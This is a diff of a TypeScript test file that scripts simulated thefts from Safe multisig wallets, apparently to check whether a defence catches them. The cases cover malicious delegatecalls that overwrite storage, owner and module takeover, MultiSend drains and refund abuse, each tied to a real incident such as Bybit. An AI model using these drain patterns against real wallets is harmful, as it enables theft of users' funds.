@@ -1,37 +1,52 @@
 import { type Address, concatHex, encodeFunctionData, encodePacked, type Hex, size } from 'viem';
 import { readArtifact } from '../artifact.ts';
 import type { Case } from '../Case.ts';
-import { type About, attack, signature, transaction, type Typed, typedText } from './attack.ts';
+import { type About, attack, signature, type Typed, transaction, typedText } from './attack.ts';
 import { type Deployed, ETHER, type Heist, type Measure, type RawCall, ZERO_ADDRESS } from './Heist.ts';
 
 /** F4: a Safe that would run a thief's code as its own; and its owners, modules and guard. */
 export const SAFES: readonly Case[] = [
-  delegatecall('f4-singleton', 'transfer(address,uint256) of a contract that writes slot 0', 'Bybit, 21 Feb 2025 ($1.5 B)', async (heist, safe) => {
-    const writer = await heist.thiefs('SlotZeroWriter');
-    const code = await heist.thiefs('SweepingSingleton');
-    return {
-      call: heist.encode(writer, 'transfer', [code.address, 0n]),
-      theft: () => heist.send(heist.thief, { address: safe.safe.address, abi: code.abi }, 'sweepETH', [heist.thief]),
-      stake: heist.ether(safe.safe.address),
-    };
-  }),
-  delegatecall('f4-owners', 'a contract that writes the owners’ map', 'Radiant, 16 Oct 2024 ($50 M); WazirX, 18 July 2024 ($235 M)', async (heist, safe) => {
-    const swapper = await heist.thiefs('OwnerSwapper');
-    return {
-      call: heist.encode(swapper, 'setupToken', [heist.thief]),
-      theft: () => executed(heist, safe, { to: heist.thief, data: '0x', valueWei: 2n * ETHER }, 0, heist.thief),
-      stake: heist.ether(safe.safe.address),
-    };
-  }),
-  delegatecall('f4-module', 'a contract that writes the modules’ map', 'Radiant-like module insertion', async (heist, safe) => {
-    const swapper = await heist.thiefs('OwnerSwapper');
-    return {
-      call: heist.encode(swapper, 'enable', [heist.thief]),
-      theft: () =>
-        heist.send(heist.thief, safe.safe, 'execTransactionFromModule', [heist.thief, 2n * ETHER, '0x', 0]),
-      stake: heist.ether(safe.safe.address),
-    };
-  }),
+  delegatecall(
+    'f4-singleton',
+    'transfer(address,uint256) of a contract that writes slot 0',
+    'Bybit, 21 Feb 2025 ($1.5 B)',
+    async (heist, safe) => {
+      const writer = await heist.thiefs('SlotZeroWriter');
+      const code = await heist.thiefs('SweepingSingleton');
+      return {
+        call: heist.encode(writer, 'transfer', [code.address, 0n]),
+        theft: () => heist.send(heist.thief, { address: safe.safe.address, abi: code.abi }, 'sweepETH', [heist.thief]),
+        stake: heist.ether(safe.safe.address),
+      };
+    },
+  ),
+  delegatecall(
+    'f4-owners',
+    'a contract that writes the owners’ map',
+    'Radiant, 16 Oct 2024 ($50 M); WazirX, 18 July 2024 ($235 M)',
+    async (heist, safe) => {
+      const swapper = await heist.thiefs('OwnerSwapper');
+      return {
+        call: heist.encode(swapper, 'setupToken', [heist.thief]),
+        theft: () => executed(heist, safe, { to: heist.thief, data: '0x', valueWei: 2n * ETHER }, 0, heist.thief),
+        stake: heist.ether(safe.safe.address),
+      };
+    },
+  ),
+  delegatecall(
+    'f4-module',
+    'a contract that writes the modules’ map',
+    'Radiant-like module insertion',
+    async (heist, safe) => {
+      const swapper = await heist.thiefs('OwnerSwapper');
+      return {
+        call: heist.encode(swapper, 'enable', [heist.thief]),
+        theft: () =>
+          heist.send(heist.thief, safe.safe, 'execTransactionFromModule', [heist.thief, 2n * ETHER, '0x', 0]),
+        stake: heist.ether(safe.safe.address),
+      };
+    },
+  ),
   transaction(
     {
       id: 'f4-exec-transaction',
@@ -50,52 +65,76 @@ export const SAFES: readonly Case[] = [
       };
     },
   ),
-  safeTx('f4-multisend-inner', 'F4', 'SafeTx to MultiSend with a delegatecall inside', 'Safe MultiSend', async (heist, safe) => {
-    const writer = await heist.thiefs('SlotZeroWriter');
-    const code = await heist.thiefs('SweepingSingleton');
-    const multiSend = await safeLibrary(heist, 'libraries/MultiSend.sol/MultiSend', MULTI_SEND);
-    const inner = packed(1, heist.encode(writer, 'transfer', [code.address, 0n]));
-    return {
-      call: heist.encode(multiSend, 'multiSend', [inner]),
-      operation: 1,
-      theft: () => heist.send(heist.thief, { address: safe.safe.address, abi: code.abi }, 'sweepETH', [heist.thief]),
+  safeTx(
+    'f4-multisend-inner',
+    'F4',
+    'SafeTx to MultiSend with a delegatecall inside',
+    'Safe MultiSend',
+    async (heist, safe) => {
+      const writer = await heist.thiefs('SlotZeroWriter');
+      const code = await heist.thiefs('SweepingSingleton');
+      const multiSend = await safeLibrary(heist, 'libraries/MultiSend.sol/MultiSend', MULTI_SEND);
+      const inner = packed(1, heist.encode(writer, 'transfer', [code.address, 0n]));
+      return {
+        call: heist.encode(multiSend, 'multiSend', [inner]),
+        operation: 1,
+        theft: () => heist.send(heist.thief, { address: safe.safe.address, abi: code.abi }, 'sweepETH', [heist.thief]),
+        stake: heist.ether(safe.safe.address),
+      };
+    },
+  ),
+  safeTx(
+    'f4-copied-multisend',
+    'F4',
+    'SafeTx by delegatecall to the thief’s copy of MultiSend',
+    'look-alike MultiSend libraries',
+    async (heist, safe) => {
+      const copy = await heist.world.deploy(
+        'attack MultiSend copy',
+        readArtifact(`${SAFE_PATH}/libraries/MultiSend.sol/MultiSend.json`),
+        [],
+        { from: heist.thief },
+      );
+      const { abi } = readArtifact(`${SAFE_PATH}/libraries/MultiSend.sol/MultiSend.json`);
+      const inner = packed(0, { to: heist.thief, data: '0x', valueWei: 2n * ETHER });
+      return {
+        call: heist.encode({ address: copy, abi }, 'multiSend', [inner]),
+        operation: 1,
+        stake: heist.ether(safe.safe.address),
+      };
+    },
+  ),
+  safeTx(
+    'f4-multisend-drain',
+    'F4',
+    'SafeTx to MultiSendCallOnly that sends out every holding',
+    'Safe MultiSendCallOnly',
+    async (heist, safe) => {
+      const multiSend = await safeLibrary(heist, 'libraries/MultiSendCallOnly.sol/MultiSendCallOnly', CALL_ONLY);
+      const held = await heist.balance(safe.coin, safe.safe.address)();
+      const inner = concatHex([
+        packed(0, heist.encode(safe.coin, 'transfer', [heist.thief, held])),
+        packed(0, { to: heist.thief, data: '0x', valueWei: await wei(heist, safe.safe.address) }),
+      ]);
+      return {
+        call: heist.encode(multiSend, 'multiSend', [inner]),
+        operation: 1,
+        stake: heist.balance(safe.coin, safe.safe.address),
+      };
+    },
+  ),
+  safeTx(
+    'f4-refund',
+    'F4',
+    'SafeTx whose gas refund pays the thief everything',
+    'Safe refunds (gasPrice, gasToken, refundReceiver)',
+    async (heist, safe) => ({
+      call: { to: heist.world.friend, data: '0x' },
+      operation: 0,
+      refund: { baseGas: (19n * ETHER) / 10n, gasPrice: 1n, refundReceiver: heist.thief },
       stake: heist.ether(safe.safe.address),
-    };
-  }),
-  safeTx('f4-copied-multisend', 'F4', 'SafeTx by delegatecall to the thief’s copy of MultiSend', 'look-alike MultiSend libraries', async (heist, safe) => {
-    const copy = await heist.world.deploy(
-      'attack MultiSend copy',
-      readArtifact(`${SAFE_PATH}/libraries/MultiSend.sol/MultiSend.json`),
-      [],
-      { from: heist.thief },
-    );
-    const { abi } = readArtifact(`${SAFE_PATH}/libraries/MultiSend.sol/MultiSend.json`);
-    const inner = packed(0, { to: heist.thief, data: '0x', valueWei: 2n * ETHER });
-    return {
-      call: heist.encode({ address: copy, abi }, 'multiSend', [inner]),
-      operation: 1,
-      stake: heist.ether(safe.safe.address),
-    };
-  }),
-  safeTx('f4-multisend-drain', 'F4', 'SafeTx to MultiSendCallOnly that sends out every holding', 'Safe MultiSendCallOnly', async (heist, safe) => {
-    const multiSend = await safeLibrary(heist, 'libraries/MultiSendCallOnly.sol/MultiSendCallOnly', CALL_ONLY);
-    const held = await heist.balance(safe.coin, safe.safe.address)();
-    const inner = concatHex([
-      packed(0, heist.encode(safe.coin, 'transfer', [heist.thief, held])),
-      packed(0, { to: heist.thief, data: '0x', valueWei: await wei(heist, safe.safe.address) }),
-    ]);
-    return {
-      call: heist.encode(multiSend, 'multiSend', [inner]),
-      operation: 1,
-      stake: heist.balance(safe.coin, safe.safe.address),
-    };
-  }),
-  safeTx('f4-refund', 'F4', 'SafeTx whose gas refund pays the thief everything', 'Safe refunds (gasPrice, gasToken, refundReceiver)', async (heist, safe) => ({
-    call: { to: heist.world.friend, data: '0x' },
-    operation: 0,
-    refund: { baseGas: 2n * ETHER, gasPrice: 1n, refundReceiver: heist.thief },
-    stake: heist.ether(safe.safe.address),
-  })),
+    }),
+  ),
   onSafe('f5-add-owner', 'addOwnerWithThreshold', (heist) => [heist.thief, 1n]),
   onSafe('f5-swap-owner', 'swapOwner', (heist) => [SENTINEL, heist.user, heist.thief]),
   onSafe('f5-enable-module', 'enableModule', (heist) => [heist.thief]),
@@ -177,7 +216,8 @@ function safeTx(
 }
 
 function safeTyped(heist: Heist, { safe }: UsersSafe, parts: Readonly<Record<string, unknown>>): Typed {
-  const fields = 'to address,value uint256,data bytes,operation uint8,safeTxGas uint256,baseGas uint256,gasPrice uint256,gasToken address,refundReceiver address,nonce uint256';
+  const fields =
+    'to address,value uint256,data bytes,operation uint8,safeTxGas uint256,baseGas uint256,gasPrice uint256,gasToken address,refundReceiver address,nonce uint256';
   return {
     domain: { chainId: heist.world.chainId, verifyingContract: safe.address },
     types: {
